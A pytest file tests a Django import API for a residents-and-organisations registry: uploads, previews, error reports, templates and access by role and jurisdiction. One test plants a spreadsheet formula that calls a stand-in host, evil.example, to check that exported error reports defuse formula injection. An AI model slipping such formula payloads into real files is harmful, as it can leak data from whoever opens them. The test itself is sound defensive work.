"""The exchange API through the test client: upload, preview, poll, error report, templates."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from openpyxl import load_workbook

from gridgov.exchange.columns import headers
from gridgov.exchange.models import ImportJob, ImportStatus
from gridgov.exchange.tests.conftest import (
    ENTITY,
    INFLATED,
    TRUNCATED,
    addresses,
    csv_bytes,
    id_number,
    people_rows,
)
from gridgov.registry.models import Organisation, Person

X = "/api/v1/exchange"


def upload(
    client: Any, kind: str, content: bytes, name: str = "f.csv", preview: bool = False
) -> Any:
    """The upload as a client sees it: the import task runs when the request's work commits."""
    url = f"{X}/imports" + ("?preview=1" if preview else "")
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post(url, {"kind": kind, "file": SimpleUploadedFile(name, content)})


def polled(client: Any, response: Any) -> dict[str, Any]:
    """The job as a poll reads it after its task ran; the upload answered while it was queued."""
    assert response.status_code == 201, response.content
    job: dict[str, Any] = client.get(f"{X}/imports/{response.json()['id']}").json()
    return job


def report(client: Any, job_id: int) -> list[list[str]]:
    response = client.get(f"{X}/imports/{job_id}/errors.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_upload_imports_and_the_job_can_be_polled(library: Any, client_for: Any) -> None:
    client = client_for("dispatcher")
    response = upload(client, "people", csv_bytes("people", people_rows(5)))
    assert response.json()["status"] == "running"
    job = polled(client, response)
    assert (job["status"], job["rows_total"], job["rows_ok"], job["percent"]) == ("done", 5, 5, 100)
    assert job["rows_created"] == 5
    assert Person.objects.count() == 5
    # The same file again is the same job, and nothing changes.
    again = upload(client, "people", csv_bytes("people", people_rows(5)))
    assert again.json()["id"] == job["id"]
    assert Person.objects.count() == 5


def test_preview_lists_each_bad_row_and_writes_nothing(library: Any, client_for: Any) -> None:
    rows = people_rows(5)
    good_id = rows[0][1]
    rows[0][1] = good_id[:-1] + ("1" if good_id[-1] != "1" else "2")
    rows[1][2] = "1985-02-03"
    rows[2][6] = "不存在路999号"
    response = upload(client_for("dispatcher"), "people", csv_bytes("people", rows), preview=True)
    assert response.status_code == 200
    body = response.json()
    assert (body["rows"], body["ok"]) == (5, 2)
    errors = {e["row"]: e for e in body["errors"]}
    assert errors[2]["column"] == "身份证号"
    assert errors[2]["code"] == "invalid_checksum"
    assert errors[2]["value"].startswith("3201*")
    assert good_id[:-1] not in response.content.decode()
    assert (errors[3]["column"], errors[3]["code"]) == ("出生日期", "birth_date_mismatch")
    assert errors[3]["value"] == "1985-02-03"
    assert errors[4]["column"] == "地址"
    assert errors[4]["code"].startswith("address_")
    assert errors[4]["value"] == "不存在路999号"
    assert all(e["reason"] for e in body["errors"])
    assert not Person.objects.exists()
    assert not ImportJob.objects.exists()


def test_bad_rows_go_to_the_error_report_and_are_not_written(library: Any, client_for: Any) -> None:
    client = client_for("dispatcher")
    rows = people_rows(4)
    rows[1][1] = "32010419900101123"
    rows[2][6] = "火星路1号"
    job = polled(client, upload(client, "people", csv_bytes("people", rows)))
    assert (job["rows_ok"], job["rows_bad"]) == (2, 2)
    lines = report(client, job["id"])
    assert lines[0] == ["行号", "列", "值", "代码", "原因"]
    assert [(line[0], line[1]) for line in lines[1:]] == [("3", "身份证号"), ("4", "地址")]
    assert lines[2][2] == "火星路1号"
    assert "32010419900101123" not in str(lines)
    assert sorted(Person.objects.values_list("name", flat=True)) == ["居民0", "居民3"]


def test_organisations_with_a_bad_credit_code(library: Any, client_for: Any) -> None:
    place = addresses("320104001", 2)
    rows = [
        ["甲公司", "91320104MA1XXXXX0P", "企业", place[0], "12"],
        ["乙公司", "91320104MA1XXXXX0Q", "企业", place[1], ""],
    ]
    client = client_for("dispatcher")
    body = polled(client, upload(client, "organisations", csv_bytes("organisations", rows)))
    assert (body["rows_ok"], body["rows_bad"]) == (1, 1)
    error = ImportJob.objects.get().errors.get()
    assert (error.row, error.column, error.code) == (3, "统一社会信用代码", "invalid_checksum")
    assert list(Organisation.objects.values_list("name", flat=True)) == ["甲公司"]


def test_an_address_of_the_sibling_jurisdiction_reads_as_not_found(
    library: Any, client_for: Any
) -> None:
    rows = people_rows(1)
    rows[0][6] = addresses("320104002", 1)[0]
    body = upload(
        client_for("dispatcher"), "people", csv_bytes("people", rows), preview=True
    ).json()
    assert [e["code"] for e in body["errors"]] == ["address_not_found"]


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (b"", "f.csv", "empty"),
        ("姓名,身份证号,人员类别,地址,血型\n".encode(), "f.csv", "bad_columns"),
        ("姓名,身份证号,人员类别,地址\n".encode(), "f.csv", "no_rows"),
        (b"PK\x03\x04garbage", "f.xlsx", "corrupt"),
        (b"%PDF-1.7\n\x00\x01binary", "f.pdf", "wrong_kind"),
        (ENTITY, "entity.xlsx", "corrupt"),
        (TRUNCATED, "truncated.xlsx", "corrupt"),
        (INFLATED, "inflated.xlsx", "too_large_unpacked"),
    ],
)
def test_a_rejected_file_writes_nothing(
    library: Any, client_for: Any, content: bytes, name: str, code: str
) -> None:
    for preview in (True, False):
        response = upload(client_for("dispatcher"), "people", content, name, preview)
        assert response.status_code == 422
        body = response.json()
        assert body["code"] == "file_rejected"
        assert body["errors"][0]["code"] == code
        assert body["errors"][0]["message"]
    assert not ImportJob.objects.exists()
    assert not Person.objects.exists()


def test_unknown_columns_are_named(library: Any, client_for: Any) -> None:
    content = "姓名,身份证号,人员类别,地址,血型\n张三,1,户籍人口,x,A\n".encode()
    body = upload(client_for("dispatcher"), "people", content).json()
    assert "血型" in body["errors"][0]["message"]


def test_unknown_kind_is_refused(library: Any, client_for: Any) -> None:
    response = upload(client_for("dispatcher"), "vehicles", csv_bytes("people", people_rows(1)))
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"].endswith("kind")
    assert not ImportJob.objects.exists()


def test_a_role_that_may_not_write_gets_403(library: Any, client_for: Any) -> None:
    for role in ("analyst", "auditor"):
        response = upload(client_for(role), "people", csv_bytes("people", people_rows(1)))
        assert response.status_code == 403
    assert not ImportJob.objects.exists()


def test_a_sibling_jurisdictions_job_is_not_found(library: Any, client_for: Any) -> None:
    job = upload(client_for("dispatcher"), "people", csv_bytes("people", people_rows(1))).json()
    sibling = client_for("sibling_dispatcher")
    assert sibling.get(f"{X}/imports/{job['id']}").status_code == 404
    assert sibling.get(f"{X}/imports/{job['id']}/errors.csv").status_code == 404
    # The district above sees it.
    assert client_for("commander").get(f"{X}/imports/{job['id']}").status_code == 200


@pytest.mark.parametrize("kind", ["people", "homes", "organisations"])
def test_templates_carry_the_chinese_headers(client_for: Any, kind: str) -> None:
    client = client_for("dispatcher")
    response = client.get(f"{X}/templates/{kind}.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(text))) == headers(kind)
    response = client.get(f"{X}/templates/{kind}.xlsx")
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).worksheets[0]
    first, example = list(sheet.iter_rows(values_only=True))[:2]
    assert list(first) == headers(kind)
    assert all(cell is not None for cell in example)


def test_a_filled_in_xlsx_template_imports(library: Any, client_for: Any) -> None:
    client = client_for("dispatcher")
    book = load_workbook(io.BytesIO(client.get(f"{X}/templates/people.xlsx").content))
    sheet = book.worksheets[0]
    sheet.delete_rows(2)
    for row in people_rows(3):
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    job = polled(client, upload(client, "people", buffer.getvalue(), "人员.xlsx"))
    assert (job["status"], job["rows_ok"], job["file_name"]) == (ImportStatus.DONE, 3, "人员.xlsx")
    assert Person.objects.filter(id_number_masked__endswith=id_number(2)[-4:]).exists()


def test_the_error_report_does_not_hand_excel_a_formula(library: Any, client_for: Any) -> None:
    client = client_for("dispatcher")
    rows = people_rows(1)
    rows[0][6] = '=HYPERLINK("http://evil.example/?leak","点击查看")'
    job = upload(client, "people", csv_bytes("people", rows)).json()
    assert report(client, job["id"])[1][2] == "'" + rows[0][6]


def test_a_refused_address_says_how_it_was_read(library: Any, client_for: Any) -> None:
    rows = people_rows(1)
    rows[0][6] = "张先生 13912345678 不存在的地方路1号"
    body = upload(
        client_for("dispatcher"), "people", csv_bytes("people", rows), preview=True
    ).json()
    assert [e["code"] for e in body["errors"]] == ["address_road_not_found"]
    assert "道路 不存在的地方路" in body["errors"][0]["reason"]
    assert "已忽略：139****5678，张先生" in body["errors"][0]["reason"]
